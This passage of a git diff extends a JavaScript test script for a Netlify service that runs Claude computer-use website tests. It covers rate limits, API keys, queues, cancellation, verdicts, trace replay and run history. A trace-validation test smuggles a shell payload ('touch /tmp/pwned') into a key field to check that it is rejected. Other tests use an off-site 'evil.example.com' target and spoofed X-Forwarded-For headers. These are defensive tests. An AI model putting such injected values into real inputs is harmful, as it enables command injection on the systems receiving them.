@@ -9,6 +9,9 @@ const path = require('path');
 // Mock environment for testing
 process.env.ANTHROPIC_API_KEY = process.env.ANTHROPIC_API_KEY || 'test-key';
 process.env.WEBSITE_URL = process.env.WEBSITE_URL || 'app.giftround.com';
+process.env.MAX_REQUESTS_PER_HOUR = process.env.MAX_REQUESTS_PER_HOUR || '3';
+process.env.RUN_HISTORY_STORE = process.env.RUN_HISTORY_STORE || 'memory';
+process.env.TEST_DEFINITIONS_STORE = process.env.TEST_DEFINITIONS_STORE || 'memory';
 
 // Mock Netlify event and context
 function createMockEvent(body, options = {}) {
@@ -19,6 +22,23 @@ function createMockEvent(body, options = {}) {
       'x-forwarded-for': options.clientIP || '127.0.0.1'
     },
     body: JSON.stringify(body),
+    queryStringParameters: options.query || {},
+    requestContext: {
+      identity: {
+        sourceIp: options.clientIP || '127.0.0.1'
+      }
+    }
+  };
+}
+
+function createMockGetEvent(query, options = {}) {
+  return {
+    httpMethod: 'GET',
+    path: '/.netlify/functions/test-website',
+    headers: {
+      'x-forwarded-for': options.clientIP || '127.0.0.1'
+    },
+    queryStringParameters: query,
     requestContext: {
       identity: {
         sourceIp: options.clientIP || '127.0.0.1'
@@ -33,6 +53,24 @@ function createMockContext() {
   };
 }
 
+// Result mark for a check; any failure makes the run exit non-zero
+function check(passed) {
+  if (!passed) {
+    process.exitCode = 1;
+  }
+  return passed ? '✅' : '❌';
+}
+
+// Poll until a condition holds (or give up after timeoutMs)
+async function waitFor(condition, timeoutMs = 10000) {
+  const deadline = Date.now() + timeoutMs;
+  while (Date.now() < deadline) {
+    if (await condition()) return true;
+    await new Promise(resolve => setTimeout(resolve, 100));
+  }
+  return false;
+}
+
 async function runTests() {
   console.log('🧪 Starting API Tests\n');
 
@@ -53,10 +91,40 @@ async function runTests() {
     const validResponse = await handler(validEvent, createMockContext());
     console.log('✅ Valid request response status:', validResponse.statusCode);
     
-    if (validResponse.statusCode !== 200 && validResponse.statusCode !== 503) {
+    if (validResponse.statusCode !== 202) {
       console.log('Response body:', JSON.parse(validResponse.body));
     }
 
+    // Test 1b: Poll the status of the started test
+    console.log('\nTest 1b: Status polling');
+    const { testId } = JSON.parse(validResponse.body);
+    const statusResponse = await handler(createMockGetEvent({ testId }), createMockContext());
+    const status = JSON.parse(statusResponse.body);
+    console.log('✅ Status response:', statusResponse.statusCode, 'state:', status.status, 'iteration:', status.iteration);
+
+    const missingResponse = await handler(createMockGetEvent({ testId: 'does-not-exist' }), createMockContext());
+    console.log(`${check(missingResponse.statusCode === 404)} Unknown testId status:`, missingResponse.statusCode);
+
+    // Test 1c: Cancellation of unknown and finished tests
+    console.log('\nTest 1c: Cancel requests');
+    const cancelMissing = await handler(createMockEvent({}, { query: { testId: 'does-not-exist', action: 'cancel' } }), createMockContext());
+    console.log(`${check(cancelMissing.statusCode === 404)} Cancel unknown test:`, cancelMissing.statusCode);
+    await waitFor(async () => {
+      const response = await handler(createMockGetEvent({ testId }), createMockContext());
+      return JSON.parse(response.body).completedAt;
+    });
+    const cancelFinished = await handler(createMockEvent({}, { query: { testId, action: 'cancel' } }), createMockContext());
+    console.log(`${check(cancelFinished.statusCode === 409)} Cancel finished test:`, cancelFinished.statusCode);
+
+    // Test 1d: Stream progress events
+    console.log('\nTest 1d: Server-Sent Events stream');
+    const streamResponse = await handler(createMockGetEvent({ testId, stream: 'true' }), createMockContext());
+    const eventTypes = streamResponse.body.split('\n')
+      .filter(line => line.startsWith('event: '))
+      .map(line => line.slice('event: '.length));
+    console.log('✅ Stream response:', streamResponse.statusCode, streamResponse.headers['Content-Type']);
+    console.log('Event types:', [...new Set(eventTypes)].join(', '));
+
     // Test 2: Invalid request (missing instruction)
     console.log('\nTest 2: Invalid request handling');
     const invalidEvent = createMockEvent({
@@ -67,6 +135,15 @@ async function runTests() {
     console.log('✅ Invalid request response status:', invalidResponse.statusCode);
     console.log('Response:', JSON.parse(invalidResponse.body).error);
 
+    // Test 2b: Target outside the allowlist
+    console.log('\nTest 2b: Domain allowlist enforcement');
+    const offsiteResponse = await handler(createMockEvent({
+      instruction: 'take a screenshot of the homepage',
+      options: { websiteUrl: 'evil.example.com' }
+    }), createMockContext());
+    console.log(`${check(offsiteResponse.statusCode === 400)} Off-site target response status:`, offsiteResponse.statusCode);
+    console.log('Response:', JSON.parse(offsiteResponse.body).error);
+
     // Test 3: OPTIONS request (CORS)
     console.log('\nTest 3: CORS OPTIONS request');
     const optionsEvent = {
@@ -83,20 +160,54 @@ async function runTests() {
       instruction: 'test rate limiting'
     }, { clientIP: '192.168.1.100' });
 
-    for (let i = 1; i <= 3; i++) {
+    for (let i = 1; i <= 4; i++) {
       const response = await handler(rateLimitEvent, createMockContext());
-      console.log(`Request ${i} status:`, response.statusCode);
+      console.log(`Request ${i} status:`, response.statusCode, 'remaining:', response.headers['X-RateLimit-Remaining']);
       
       if (response.statusCode === 429) {
-        console.log('✅ Rate limiting working correctly');
+        console.log(`${check(response.headers['Retry-After'])} Rate limiting working correctly, Retry-After:`, response.headers['Retry-After']);
         break;
       }
     }
 
+    const otherClient = await handler(createMockGetEvent({ testId: 'does-not-exist' }, { clientIP: '192.168.1.101' }), createMockContext());
+    console.log(`${check(otherClient.headers['X-RateLimit-Remaining'] === process.env.MAX_REQUESTS_PER_HOUR)} Limits are tracked per client IP:`, otherClient.headers['X-RateLimit-Remaining']);
+
+    // Test 5: Suite mode
+    console.log('\nTest 5: Test suite with stopOnFailure');
+    const invalidSuite = await handler(createMockEvent({ tests: [{ name: 'no instruction' }] }), createMockContext());
+    console.log(`${check(invalidSuite.statusCode === 400)} Invalid suite status:`, invalidSuite.statusCode);
+
+    // Retry while earlier tests still hold the concurrency slot
+    let suiteResponse;
+    await waitFor(async () => {
+      suiteResponse = await handler(createMockEvent({
+        name: 'Smoke pack',
+        stopOnFailure: true,
+        tests: [
+          { name: 'Homepage', instruction: 'take a screenshot of the homepage' },
+          { name: 'Signup', instruction: 'open the signup page' }
+        ]
+      }), createMockContext());
+      return suiteResponse.statusCode !== 429;
+    });
+    console.log('✅ Suite response status:', suiteResponse.statusCode);
+
+    const { suiteId } = JSON.parse(suiteResponse.body);
+    let report;
+    await waitFor(async () => {
+      const response = await handler(createMockGetEvent({ suiteId }), createMockContext());
+      report = JSON.parse(response.body);
+      return report.completedAt;
+    });
+    console.log(`Suite ${report.status}: passed=${report.passed} failed=${report.failed} skipped=${report.skipped}`);
+    console.log(`${check(report.cases[1].status === 'skipped')} Case after failure skipped`);
+
     console.log('\n🎉 All tests completed!');
 
   } catch (error) {
     console.error('❌ Test failed:', error.message);
+    process.exitCode = 1;
     console.error('Stack:', error.stack);
   }
 }
@@ -129,7 +240,7 @@ async function testErrorHandling() {
   for (const test of validationTests) {
     const result = ErrorHandler.validateRequest(test.body);
     const passed = result.valid === test.shouldPass;
-    console.log(`Validation test ${passed ? '✅' : '❌'}:`, test.body, '-> valid:', result.valid);
+    console.log(`Validation test ${check(passed)}:`, test.body, '-> valid:', result.valid);
     if (!result.valid && result.errors.length > 0) {
       console.log('  Errors:', result.errors);
     }
@@ -147,11 +258,11 @@ async function testRateLimiter() {
   console.log('Rate limiter status:', rateLimiter.getStatus());
   
   for (let i = 1; i <= 12; i++) {
-    const result = rateLimiter.isRequestAllowed(testIP);
+    const result = await rateLimiter.isRequestAllowed(testIP);
     console.log(`Request ${i}: allowed=${result.allowed}, remaining=${result.remaining}`);
     
     if (result.allowed) {
-      rateLimiter.recordRequest(testIP);
+      await rateLimiter.recordRequest(testIP);
     } else {
       console.log(`✅ Rate limit triggered at request ${i}`);
       break;
@@ -162,11 +273,1428 @@ async function testRateLimiter() {
   rateLimiter.registerTest('test-1');
   rateLimiter.registerTest('test-2');
   
-  const concurrentResult = rateLimiter.isRequestAllowed('192.168.1.201');
+  const concurrentResult = await rateLimiter.isRequestAllowed('192.168.1.201');
   console.log('Concurrent test limit result:', concurrentResult);
   
   rateLimiter.unregisterTest('test-1');
   rateLimiter.unregisterTest('test-2');
+
+  // Spoofed X-Forwarded-For entries must not change who is limited
+  const spoofed = rateLimiter.getClientIP({ headers: { 'x-forwarded-for': '1.2.3.4, 203.0.113.7' } });
+  console.log(`${check(spoofed === '203.0.113.7')} X-Forwarded-For uses the proxy-appended entry:`, spoofed);
+  const netlify = rateLimiter.getClientIP({ headers: { 'x-nf-client-connection-ip': '198.51.100.2', 'x-forwarded-for': '1.2.3.4' } });
+  console.log(`${check(netlify === '198.51.100.2')} Netlify connection IP preferred:`, netlify);
+}
+
+async function testRateLimitAlgorithms() {
+  console.log('\n🪣 Testing Rate Limit Algorithms and Tiers');
+
+  const ALGORITHMS = require('../netlify/functions/lib/rate-limit-algorithms');
+  const rateLimiter = require('../netlify/functions/lib/rate-limiter');
+
+  // Replay requests at fixed times (seconds) and report which were allowed
+  const replay = (tier, times) => {
+    const algorithm = ALGORITHMS[tier.algorithm];
+    let state = null;
+    return times.map(seconds => {
+      const now = seconds * 1000;
+      state = algorithm.normalize(state, tier, now);
+      const denied = algorithm.check(state, tier, now);
+      if (!denied) algorithm.record(state, tier, now);
+      return denied ? `denied(${denied.retryAfter}s)` : 'ok';
+    }).join(' ');
+  };
+
+  const cases = [
+    [{ algorithm: 'fixed-window', limit: 2, windowSeconds: 60 }, [0, 1, 2, 61], 'ok ok denied(58s) ok'],
+    [{ algorithm: 'fixed-window', limit: 2, windowSeconds: 60, blockDurationMinutes: 5 }, [0, 1, 2, 61], 'ok ok denied(300s) denied(241s)'],
+    [{ algorithm: 'sliding-log', limit: 2, windowSeconds: 60 }, [0, 30, 40, 61, 62], 'ok ok denied(20s) ok denied(28s)'],
+    [{ algorithm: 'token-bucket', limit: 60, windowSeconds: 3600, burst: 3 }, [0, 0, 0, 0, 60], 'ok ok ok denied(60s) ok']
+  ];
+
+  for (const [tier, times, expected] of cases) {
+    const actual = replay(tier, times);
+    console.log(`${check(actual === expected)} ${tier.algorithm}${tier.blockDurationMinutes ? ' with block' : ''}: ${actual}`);
+  }
+
+  // Named tiers report their own limits in the headers
+  const key = 'client:tier-test';
+  const allowed = await rateLimiter.isRequestAllowed(key, { tier: 'ci', record: true, checkConcurrency: false });
+  const headers = await rateLimiter.getRateLimitHeaders(key, 'ci');
+  console.log(`${check(allowed.tier === 'ci' && headers['X-RateLimit-Limit'] === '20' && headers['X-RateLimit-Remaining'] === '19')} ci tier headers:`, headers);
+
+  const fallback = await rateLimiter.getRateLimitInfo('client:no-tier', 'no-such-tier');
+  console.log(`${check(fallback.tier === 'default')} Unknown tier falls back to default`);
+
+  await rateLimiter.clearRateLimit(key);
+
+  // Broken RATE_LIMIT_TIERS values are skipped instead of stopping the function from loading
+  const loaded = ['{not json', '["ci"]', '{"ci":{"algorithm":"leaky"},"burst":{"algorithm":"token-bucket","limit":5,"windowSeconds":60}}'].map(value => {
+    process.env.RATE_LIMIT_TIERS = value;
+    return rateLimiter.loadTiers();
+  });
+  delete process.env.RATE_LIMIT_TIERS;
+  const skipped = loaded.every(tiers => tiers.ci.algorithm === 'token-bucket' && tiers.default.algorithm === 'fixed-window');
+  console.log(`${check(skipped && loaded[2].burst && loaded[2].burst.limit === 5)} Invalid tier overrides ignored, valid ones kept`);
+}
+
+async function testRateLimitStores() {
+  console.log('\n🗄️ Testing Rate Limit Stores');
+
+  const os = require('os');
+  const { execFile } = require('child_process');
+  const { MemoryStore, FileStore, RedisStore } = require('../netlify/functions/lib/rate-limit-store');
+
+  const increment = current => (current || 0) + 1;
+  const filePath = path.join(os.tmpdir(), `rate-limit-test-${process.pid}.json`);
+
+  const stores = [
+    ['memory', new MemoryStore()],
+    ['file', new FileStore(filePath)]
+  ];
+  if (process.env.RATE_LIMIT_REDIS_URL) {
+    stores.push(['redis', new RedisStore(process.env.RATE_LIMIT_REDIS_URL)]);
+  } else {
+    console.log('Skipping Redis store (set RATE_LIMIT_REDIS_URL to run it against a redis-server)');
+  }
+
+  try {
+    for (const [name, store] of stores) {
+      const key = `parallel-${process.pid}`;
+      await store.delete(key);
+
+      // Parallel increments must not lose updates
+      await Promise.all(Array.from({ length: 50 }, () => store.update(key, increment, 60000)));
+      const count = await store.get(key);
+      console.log(`${check(count === 50)} ${name} store: 50 parallel increments -> ${count}`);
+
+      await store.update(`${key}-expiring`, increment, 1);
+      await new Promise(resolve => setTimeout(resolve, 5));
+      console.log(`${check(await store.get(`${key}-expiring`) === null)} ${name} store: expired entry dropped`);
+
+      await store.delete(key);
+      await store.close();
+    }
+
+    // Separate processes sharing the file store (as `netlify dev` function workers do)
+    const script = `
+      const { FileStore } = require(${JSON.stringify(path.join(__dirname, '../netlify/functions/lib/rate-limit-store'))});
+      const store = new FileStore(${JSON.stringify(filePath)});
+      Promise.all(Array.from({ length: 20 }, () => store.update('shared', c => (c || 0) + 1, 60000)));
+    `;
+    await Promise.all([1, 2, 3].map(() => new Promise((resolve, reject) => {
+      execFile(process.execPath, ['-e', script], { timeout: 30000 }, error => error ? reject(error) : resolve());
+    })));
+    const shared = await new FileStore(filePath).get('shared');
+    console.log(`${check(shared === 60)} file store: 3 processes x 20 increments -> ${shared}`);
+  } finally {
+    fs.rmSync(filePath, { force: true });
+  }
+
+  // A store outage drops the quota headers rather than failing the request
+  const rateLimiter = require('../netlify/functions/lib/rate-limiter');
+  const { handler } = require('../netlify/functions/test-website');
+  const store = rateLimiter.store;
+  const unavailable = async () => { throw new Error('connect ECONNREFUSED'); };
+  rateLimiter.store = { get: unavailable, update: unavailable, delete: unavailable, prune: unavailable };
+  try {
+    const response = await handler(createMockGetEvent({ testId: 'does-not-exist' }), createMockContext());
+    console.log(`${check(response.statusCode === 404 && !response.headers['X-RateLimit-Limit'])} Status answered while the store is down:`, response.statusCode);
+  } finally {
+    rateLimiter.store = store;
+  }
+}
+
+async function testApiKeyAuth() {
+  console.log('\n🔑 Testing API Key Authentication');
+
+  const ApiKeyAuth = require('../netlify/functions/lib/auth');
+  const { handler } = require('../netlify/functions/test-website');
+
+  process.env.API_KEYS = JSON.stringify([
+    { name: 'ci', key: 'ci-secret', allowedModes: ['puppeteer'], maxTimeout: 120 },
+    { name: 'qa', keyHash: ApiKeyAuth.hashKey('qa-secret'), allowedHosts: ['staging.giftround.com'], allowedModes: ['docker'] }
+  ]);
+  ApiKeyAuth.reset();
+
+  try {
+    const withKey = key => ({ headers: key ? { authorization: `Bearer ${key}` } : {} });
+
+    console.log(`${check(ApiKeyAuth.authenticate(withKey()).statusCode === 401)} Missing key rejected`);
+    console.log(`${check(ApiKeyAuth.authenticate(withKey('wrong')).statusCode === 401)} Invalid key rejected`);
+
+    const ci = ApiKeyAuth.authenticate(withKey('ci-secret'));
+    const qa = ApiKeyAuth.authenticate(withKey('qa-secret'));
+    console.log(`${check(ci.client && ci.client.name === 'ci')} Plaintext key identifies client:`, ci.client && ci.client.name);
+    console.log(`${check(qa.client && qa.client.name === 'qa')} Hashed key identifies client:`, qa.client && qa.client.name);
+
+    const modeError = ApiKeyAuth.authorizeTest(qa.client, { websiteUrl: 'staging.giftround.com', executionMode: 'puppeteer', allowedHosts: ['staging.giftround.com'] });
+    console.log('Mode scope:', modeError);
+    const hostError = ApiKeyAuth.authorizeTest(qa.client, { websiteUrl: 'app.giftround.com', executionMode: 'docker', allowedHosts: ['staging.giftround.com'] });
+    console.log('Host scope:', hostError);
+
+    // Handler enforces keys on every route
+    const unauthenticated = await handler(createMockGetEvent({ testId: 'anything' }), createMockContext());
+    console.log(`${check(unauthenticated.statusCode === 401)} Handler without key:`, unauthenticated.statusCode, unauthenticated.headers['WWW-Authenticate']);
+
+    const forbiddenEvent = createMockEvent({ instruction: 'take a screenshot of the homepage' });
+    forbiddenEvent.headers.authorization = 'Bearer qa-secret';
+    const forbidden = await handler(forbiddenEvent, createMockContext());
+    console.log(`${check(forbidden.statusCode === 403)} Handler outside key scope:`, forbidden.statusCode, JSON.parse(forbidden.body).error);
+
+    // Valid JSON of the wrong shape fails closed like unparsable JSON
+    const misconfigured = ['{"key":"x"}', '[{"key":"x"}]', '[null]'].map(value => {
+      process.env.API_KEYS = value;
+      ApiKeyAuth.reset();
+      return ApiKeyAuth.authenticate(withKey('x')).statusCode;
+    });
+    console.log(`${check(misconfigured.every(statusCode => statusCode === 401))} Malformed API_KEYS rejects every key:`, misconfigured);
+  } finally {
+    delete process.env.API_KEYS;
+    ApiKeyAuth.reset();
+  }
+}
+
+async function testTestQueue() {
+  console.log('\n🚶 Testing Test Queue');
+
+  const testQueue = require('../netlify/functions/lib/test-queue');
+  const queue = new testQueue.constructor();
+  queue.config = { maxConcurrentTests: 1, maxQueueLength: 3, queueTimeoutSeconds: 60 };
+
+  const started = [];
+  let finishFirst;
+  const start = id => () => {
+    started.push(id);
+    return id === 'first' ? new Promise(resolve => { finishFirst = resolve; }) : Promise.resolve();
+  };
+
+  queue.enqueue('first', { start: start('first') });
+  const normal = queue.enqueue('normal', { start: start('normal') });
+  const low = queue.enqueue('low', { priority: 'low', start: start('low') });
+  const high = queue.enqueue('high', { priority: 'high', start: start('high') });
+  console.log('Queue positions: normal=%d low=%d high=%d', queue.getPosition('normal'), queue.getPosition('low'), queue.getPosition('high'));
+  console.log(`${check(normal.accepted && low.accepted && high.accepted)} Entries accepted while a test runs`);
+
+  const full = queue.enqueue('overflow', { start: start('overflow') });
+  console.log(`${check(!full.accepted)} Queue full rejected:`, full.reason);
+
+  let timedOut = false;
+  queue.remove('low');
+  queue.enqueue('expires', { queueTimeout: 0.05, start: start('expires'), onTimeout: () => { timedOut = true; } });
+  await new Promise(resolve => setTimeout(resolve, 100));
+  console.log(`${check(timedOut)} Queue wait timeout fired`);
+
+  let cancelled = false;
+  queue.enqueue('cancelled', { start: start('cancelled'), onCancel: () => { cancelled = true; } });
+  const removed = queue.cancel('cancelled');
+  console.log(`${check(removed && cancelled && queue.getPosition('cancelled') === null)} Cancelled entry removed and onCancel called`);
+
+  finishFirst();
+  await new Promise(resolve => setTimeout(resolve, 20));
+  const order = started.join(' -> ');
+  console.log(`${check(order === 'first -> high -> normal')} Admission order:`, order);
+}
+
+async function testCancellation() {
+  console.log('\n🛑 Testing Cancellation');
+
+  const PuppeteerComputerUse = require('../netlify/functions/lib/puppeteer-computer-use');
+  const computerUse = new PuppeteerComputerUse({ apiKey: 'test-key', testId: 'cancel-test', options: {} });
+
+  // Stand-in page and a Claude request that only ends when aborted
+  computerUse.page = { screenshot: async () => Buffer.from('fake').toString('base64') };
+  let requestAborted = false;
+  computerUse.anthropic.messages.create = (params, { signal }) => new Promise((_, reject) => {
+    signal.addEventListener('abort', () => {
+      requestAborted = true;
+      reject(new Error('Request was aborted.'));
+    });
+  });
+
+  const run = computerUse.runClaudeWithComputerUse('never finishes').catch(error => error);
+  await new Promise(resolve => setTimeout(resolve, 50));
+  await computerUse.cancel();
+
+  const error = await run;
+  console.log(`${check(requestAborted)} In-flight Claude request aborted`);
+  console.log(`${check(error.message === 'Test cancelled')} Iteration loop stopped:`, error.message);
+}
+
+async function testVerdict() {
+  console.log('\n⚖️ Testing Verdict Reporting');
+
+  const Verdict = require('../netlify/functions/lib/verdict');
+  const PuppeteerComputerUse = require('../netlify/functions/lib/puppeteer-computer-use');
+
+  const expectations = ['Signup form is shown', 'Confirmation email is mentioned'];
+  const computerUse = new PuppeteerComputerUse({ apiKey: 'test-key', testId: 'verdict-test', options: { expectations } });
+  computerUse.page = { screenshot: async () => Buffer.from('fake').toString('base64') };
+
+  // Claude first stops without a verdict, then reports after the reminder
+  const requests = [];
+  const responses = [
+    { content: [{ type: 'text', text: 'The signup page loads but no email is mentioned.' }] },
+    {
+      content: [{
+        type: 'tool_use',
+        id: 'report-1',
+        name: 'report_result',
+        input: {
+          passed: true,
+          summary: 'Signup works but the confirmation email is not mentioned',
+          observations: ['Signup page loaded in 2s'],
+          failedExpectations: [],
+          expectations: [{ expectation: 'Signup form is shown', met: true, evidence: 'Form visible' }]
+        }
+      }]
+    }
+  ];
+  computerUse.anthropic.messages.create = async params => {
+    requests.push(params);
+    return responses.shift();
+  };
+
+  const result = await computerUse.runClaudeWithComputerUse('open the signup page');
+  const hasTool = requests[0].tools.some(tool => tool.name === Verdict.TOOL_NAME && tool.input_schema.required.includes('expectations'));
+  console.log(`${check(hasTool)} report_result tool offered with expectations`);
+  console.log(`${check(requests.length === 2)} Reminder sent when Claude stopped without a verdict`);
+  console.log(`${check(result.verdict.passed === false)} Unaddressed expectation fails the verdict:`, result.verdict.failedExpectations);
+
+  const invalid = Verdict.validateExpectations(['ok', '']);
+  console.log(`${check(invalid)} Empty expectation rejected:`, invalid);
+}
+
+async function testActionTrace() {
+  console.log('\n🎬 Testing Action Trace and Replay');
+
+  const sharp = require('sharp');
+  const ActionTrace = require('../netlify/functions/lib/action-trace');
+  const TraceReplayer = require('../netlify/functions/lib/trace-replayer');
+  const PuppeteerComputerUse = require('../netlify/functions/lib/puppeteer-computer-use');
+  const { handler } = require('../netlify/functions/test-website');
+
+  const colors = {};
+  for (const [name, background] of Object.entries({ white: '#ffffff', blue: '#0000ff', green: '#00ff00', red: '#ff0000' })) {
+    const png = await sharp({ create: { width: 32, height: 32, channels: 3, background } }).png().toBuffer();
+    colors[name] = png.toString('base64');
+  }
+
+  // A fake page whose screen turns blue on a key press and green once text is typed
+  const createComputerUse = (testId, screen, options = {}) => {
+    const computerUse = new PuppeteerComputerUse({ apiKey: 'test-key', testId, options });
+    computerUse.screen = screen;
+    computerUse.page = {
+      screenshot: async () => colors[computerUse.screen],
+      keyboard: {
+        press: async () => { computerUse.screen = 'blue'; },
+        type: async () => { computerUse.screen = 'green'; }
+      }
+    };
+    computerUse.anthropic.messages.create = async () => { throw new Error('Claude should not be called'); };
+    return computerUse;
+  };
+
+  const recorder = createComputerUse('trace-record', 'white');
+  recorder.trace = new ActionTrace({ testId: 'trace-record', instruction: 'search for cards', executionMode: 'puppeteer' });
+  const responses = [
+    { content: [{ type: 'tool_use', id: 'a1', name: 'computer', input: { action: 'key', key: 'Return' } }] },
+    { content: [{ type: 'tool_use', id: 'a2', name: 'computer', input: { action: 'type', text: 'cards' } }] },
+    { content: [{ type: 'tool_use', id: 'r1', name: 'report_result', input: { passed: true, summary: 'Search works', observations: [], failedExpectations: [] } }] }
+  ];
+  recorder.anthropic.messages.create = async () => responses.shift();
+  recorder.trace.verdict = (await recorder.runClaudeWithComputerUse('search for cards')).verdict;
+
+  const trace = JSON.parse(JSON.stringify(recorder.trace));
+  const [keyStep, typeStep] = trace.steps;
+  const recorded = trace.steps.length === 2 && keyStep.key === 'Return' && keyStep.waitMs === 500 &&
+    keyStep.preScreenshot === colors.white && keyStep.postScreenshot === colors.blue && typeStep.text === 'cards';
+  console.log(`${check(recorded)} Actions recorded with input, wait and before/after screenshots`);
+
+  const replayer = createComputerUse('trace-replay', 'white');
+  const replayed = await new TraceReplayer(replayer, trace).run(trace.instruction);
+  const matched = replayed.replay.replayedSteps === 2 && replayed.verdict.passed && replayed.verdict.summary.startsWith('Replay matched');
+  console.log(`${check(matched)} Trace replayed without Claude:`, replayed.verdict.summary);
+
+  // The page starts in a different state, so the first step diverges
+  const diverged = createComputerUse('trace-diverge', 'red');
+  diverged.anthropic.messages.create = async () => ({
+    content: [{ type: 'tool_use', id: 'r2', name: 'report_result', input: { passed: false, summary: 'Search box missing', observations: [], failedExpectations: [] } }]
+  });
+  const fallback = await new TraceReplayer(diverged, trace, { divergenceThreshold: 5 }).run(trace.instruction);
+  console.log(`${check(fallback.replay.fellBackToClaude && fallback.replay.divergedAt === 0 && !fallback.verdict.passed)} Divergence handed over to Claude:`, fallback.replay);
+
+  const strict = await new TraceReplayer(createComputerUse('trace-strict', 'red'), trace, { fallbackToClaude: false }).run(trace.instruction).catch(error => error);
+  console.log(`${check(/Replay diverged at step 0/.test(strict.message))} Divergence fails the replay without fallback:`, strict.message);
+
+  // Saved traces have typed emails redacted; the placeholder must never be typed
+  const runHistory = require('../netlify/functions/lib/run-history');
+  const signupTrace = JSON.parse(JSON.stringify(trace));
+  signupTrace.steps[1].text = 'new.user@example.com';
+  await runHistory.save({ testId: 'trace-redacted', status: 'passed', createdAt: new Date().toISOString(), trace: signupTrace });
+  const savedTrace = (await runHistory.get('trace-redacted')).trace;
+  await runHistory.delete('trace-redacted');
+
+  const typed = [];
+  const redactedReplayer = createComputerUse('trace-redacted-replay', 'white');
+  redactedReplayer.page.keyboard.type = async text => { typed.push(text); redactedReplayer.screen = 'green'; };
+  redactedReplayer.anthropic.messages.create = async () => ({
+    content: [{ type: 'tool_use', id: 'r3', name: 'report_result', input: { passed: true, summary: 'Signed up', observations: [], failedExpectations: [] } }]
+  });
+  const handedOver = await new TraceReplayer(redactedReplayer, savedTrace).run(savedTrace.instruction);
+  console.log(`${check(savedTrace.steps[1].text === '[redacted:email]' && handedOver.replay.redactedAt === 1 && handedOver.replay.fellBackToClaude && typed.length === 0)} Redacted step handed to Claude instead of typed:`, handedOver.replay);
+
+  const refused = await new TraceReplayer(createComputerUse('trace-redacted-strict', 'white'), savedTrace, { fallbackToClaude: false }).run(savedTrace.instruction).catch(error => error);
+  console.log(`${check(/step 1: its recorded input was redacted/.test(refused.message))} Redacted step fails the replay without fallback:`, refused.message);
+
+  const missing = await handler(createMockEvent({ replay: { testId: 'no-such-run' } }, { clientIP: '192.168.1.140' }), createMockContext());
+  console.log(`${check(missing.statusCode === 404)} Replay of an unknown run rejected:`, missing.statusCode);
+
+  // Only recorded runs are replayed: an inline trace could carry any steps and verdict
+  const inline = await handler(createMockEvent({ replay: { trace } }, { clientIP: '192.168.1.141' }), createMockContext());
+  console.log(`${check(inline.statusCode === 400)} Inline replay trace rejected:`, JSON.parse(inline.body).error);
+
+  const injected = JSON.parse(JSON.stringify(trace));
+  injected.steps[0].key = 'Return; touch /tmp/pwned';
+  const injectedError = ActionTrace.validate(injected);
+  console.log(`${check(/step 0 is invalid: key/.test(injectedError || ''))} Trace step with a shell payload rejected:`, injectedError);
+
+  // Without recorded screenshots nothing shows the replay is on track, so it must not pass
+  const blind = JSON.parse(JSON.stringify(trace));
+  blind.steps.forEach(step => { delete step.preScreenshot; delete step.postScreenshot; });
+  const unverified = await new TraceReplayer(createComputerUse('trace-blind', 'red'), blind, { fallbackToClaude: false }).run(blind.instruction).catch(error => error);
+  console.log(`${check(/step 0: no recorded screenshot/.test(unverified.message))} Trace without screenshots does not pass:`, unverified.message);
+}
+
+async function testRunHistory() {
+  console.log('\n📚 Testing Run History');
+
+  const os = require('os');
+  const runHistory = require('../netlify/functions/lib/run-history');
+  const { FileJsonStore } = require('../netlify/functions/lib/json-store');
+  const { handler } = require('../netlify/functions/test-website');
+
+  // Runs finished by the handler tests above were saved
+  const saved = await runHistory.list();
+  console.log(`${check(saved.length > 0)} Finished runs recorded: ${saved.length}`);
+
+  const base = { client: 'anonymous', executionMode: 'puppeteer', log: '', screenshots: [], usage: { requests: 1, inputTokens: 10, outputTokens: 5 } };
+  await runHistory.save({ ...base, testId: 'history-1', status: 'failed', instruction: 'Nightly signup check', createdAt: '2025-01-07T02:00:00Z', error: 'Signup button missing' });
+  await runHistory.save({ ...base, testId: 'history-2', status: 'passed', instruction: 'Nightly signup check', createdAt: '2025-01-08T02:00:00Z', verdict: { passed: true, summary: 'ok' } });
+  await runHistory.save({ ...base, testId: 'history-3', status: 'failed', instruction: 'Checkout flow', createdAt: '2025-01-08T03:00:00Z' });
+
+  const list = async query => JSON.parse((await handler(createMockGetEvent({ history: 'true', ...query }), createMockContext())).body);
+  const failedSignup = await list({ status: 'failed', q: 'SIGNUP' });
+  console.log(`${check(failedSignup.count === 1 && failedSignup.runs[0].testId === 'history-1')} Filter by status and instruction text:`, failedSignup.runs.map(run => run.testId));
+  const jan8 = await list({ from: '2025-01-08', to: '2025-01-08T23:59:59Z' });
+  console.log(`${check(jan8.runs.map(run => run.testId).join(',') === 'history-3,history-2')} Filter by date, newest first:`, jan8.runs.map(run => run.testId));
+  const badDate = await handler(createMockGetEvent({ history: 'true', from: 'last tuesday' }), createMockContext());
+  console.log(`${check(badDate.statusCode === 400)} Invalid date rejected:`, badDate.statusCode);
+
+  const detail = await list({ testId: 'history-1' });
+  console.log(`${check(detail.run && detail.run.error === 'Signup button missing')} Full run loaded with error and usage:`, detail.run && detail.run.usage);
+
+  // Summaries must fit in Netlify Blobs metadata (2 KB encoded)
+  const { MemoryBlobStore, metadataSize, METADATA_MAX_SIZE } = require('../netlify/functions/lib/json-store');
+  let oversizeError = null;
+  await new MemoryBlobStore().setJSON('big', {}, { metadata: { text: 'x'.repeat(METADATA_MAX_SIZE) } }).catch(error => { oversizeError = error; });
+  console.log(`${check(oversizeError && /maximum size/.test(oversizeError.message))} Memory stand-in rejects oversize metadata like Blobs`);
+
+  const longInstruction = `Walk through every step of checkout ${'and verify each page renders '.repeat(200)}`;
+  await runHistory.save({ ...base, testId: 'history-long', status: 'failed', instruction: longInstruction, createdAt: '2025-01-09T02:00:00Z', verdict: { passed: false, summary: 'Totals did not match. '.repeat(100) } });
+  const longSummary = (await list({ q: 'walk through every step' })).runs[0];
+  const longRun = await runHistory.get('history-long');
+  console.log(`${check(longSummary && longSummary.testId === 'history-long' && metadataSize(longSummary) <= METADATA_MAX_SIZE && longSummary.instruction.length < longInstruction.length)} Long instruction and verdict shortened to fit the summary:`, longSummary && longSummary.instruction.length);
+  console.log(`${check(longRun && longRun.instruction === longInstruction)} Full instruction kept in the record`);
+
+  const deleteEvent = { ...createMockGetEvent({ testId: 'history-1' }), httpMethod: 'DELETE' };
+  const deleted = await handler(deleteEvent, createMockContext());
+  const deletedAgain = await handler(deleteEvent, createMockContext());
